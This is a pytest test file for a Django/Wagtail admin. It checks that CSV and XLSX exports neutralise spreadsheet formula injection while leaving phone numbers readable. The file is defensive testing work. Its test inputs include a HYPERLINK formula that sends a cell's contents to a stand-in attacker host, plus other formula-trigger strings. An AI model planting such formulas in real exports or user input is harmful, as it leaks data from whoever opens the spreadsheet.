"""Every CSV and XLSX the admin offers: a resident's "=HYPERLINK(...)" is shown,
never run, and a "+45" phone number stays readable (OWASP, CSV injection)."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from channels.models import Publication
from channels.models import PublicationStatus as S
from channels.reach.exports import Table, to_csv, to_xlsx
from stories.models import TaskSignup
from tests.community.helpers import make_group, secretariat
from tests.factories import make_story

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
PHONE = "+45 12 34 56 78"
DANGEROUS = [ATTACK, "+SUM(1,2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def test_sign_ups_csv_neutralises_formulas_and_keeps_the_phone_number(client):
    group = make_group("Dyrk Ishøj", tasks=[("til at grille", 3)])
    task = group.tasks.first()
    TaskSignup.objects.create(task=task, name=ATTACK, contact=PHONE, consent=True)
    TaskSignup.objects.create(task=task, name="@SUM(1)", contact="-1+1", consent=True)
    client.force_login(secretariat())
    rows = list(csv.reader(io.StringIO(client.get(
        "/admin/faellesskab/tilmeldinger/?format=csv").content.decode())))  # fmt: skip
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + ATTACK in cells and "'" + PHONE in cells
    assert "'@SUM(1)" in cells and "'-1+1" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_reach_exports_neutralise_in_csv_and_keep_text_as_typed_in_xlsx():
    table = Table("Historier", ["Historie", "Visninger"], [[v, 3] for v in DANGEROUS + [PHONE]])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + v for v in DANGEROUS + [PHONE]]
    assert [row[1] for row in rows[1:]] == ["3"] * 7  # figures stay figures

    sheet = load_workbook(io.BytesIO(to_xlsx([table])))["Historier"]
    for row, value in zip(sheet.iter_rows(min_row=2), DANGEROUS + [PHONE], strict=True):
        assert row[0].value == value  # shown exactly as typed: +45 12 34 56 78
        assert row[0].data_type == "s" and row[0].quotePrefix  # text, even when edited
        assert row[1].value == 3 and row[1].data_type == "n"


def test_wagtails_own_exports_neutralise_too(client):
    story = make_story(title="=1+1 og @SUM(1)")
    Publication.objects.update_or_create(
        page=story, channel="facebook", defaults={"status": S.FAILED, "last_error": "-2+3"}
    )
    client.force_login(get_user_model().objects.create_superuser("a", "a@example.dk", "x"))
    response = client.get("/admin/kanaler/?export=csv")
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+1 og @SUM(1)" in cells and "'-2+3" in cells

    xlsx = b"".join(client.get("/admin/kanaler/?export=xlsx").streaming_content)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    values = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert values["=1+1 og @SUM(1)"].data_type == "s" and values["-2+3"].data_type == "s"
